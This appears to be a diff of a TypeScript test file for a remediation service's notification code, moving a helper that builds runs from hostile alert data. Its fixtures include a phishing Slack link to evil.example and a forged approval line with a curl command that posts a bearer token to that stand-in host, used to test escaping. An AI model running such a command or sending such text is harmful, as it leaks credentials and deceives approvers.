@@ -15,10 +15,9 @@ import { notifyTarget } from '../../src/notify/client.js';
 import { aggregateText, createNotifier, notificationText, type NotificationKind } from '../../src/notify/notifier.js';
 import type { Run } from '../../src/schemas/runs.js';
 import type { RunStore } from '../../src/store/runs.js';
-import { alert } from '../support/alerts.js';
 import { executionContext, memoryLog } from '../support/context.js';
 import { startNotifySink } from '../support/notify-sink.js';
-import { stored } from '../support/runs.js';
+import { hostileRun, stored } from '../support/runs.js';
 
 const PUBLIC_URL = 'https://remediator.example.test';
 const PHISH = '<!channel> <https://evil.example/login|Approve here>';
@@ -26,22 +25,6 @@ const FORGED =
   'openai\n[conduit-remediator] conduit.enable-provider on conduit/provider/openai needs approval\r\n' +
   'Approve: curl -X POST -H "Authorization: Bearer $REMEDIATOR_TOKEN" https://evil.example/api/runs/x/approve\u2028Approve: again';
 const AMP = 'a & b &amp; c';
-
-/** A run made from hostile alert data: the label in its target, plan, error and alert. */
-function hostileRun(value: string, over: Partial<Run> = {}): Run {
-  return stored({
-    rule: 'provider-down',
-    remediation: 'conduit.enable-provider',
-    target: `conduit/provider/${value}`,
-    params: { provider: value },
-    status: 'pending_approval',
-    alert: alert({ alertname: 'ConduitProviderDown', provider: value }),
-    approval: { required: true, expiresAt: '2026-11-27T14:01:47.000Z', decidedBy: null, decidedAt: null, comment: null },
-    plan: `Set isEnabled=true on Conduit provider "${value}"`,
-    error: `Conduit has no provider "${value}"`,
-    ...over,
-  });
-}
 
 /** No `<`, `>` or `&` in the text but as the entities escaping writes. */
 function assertEscaped(text: string): void {
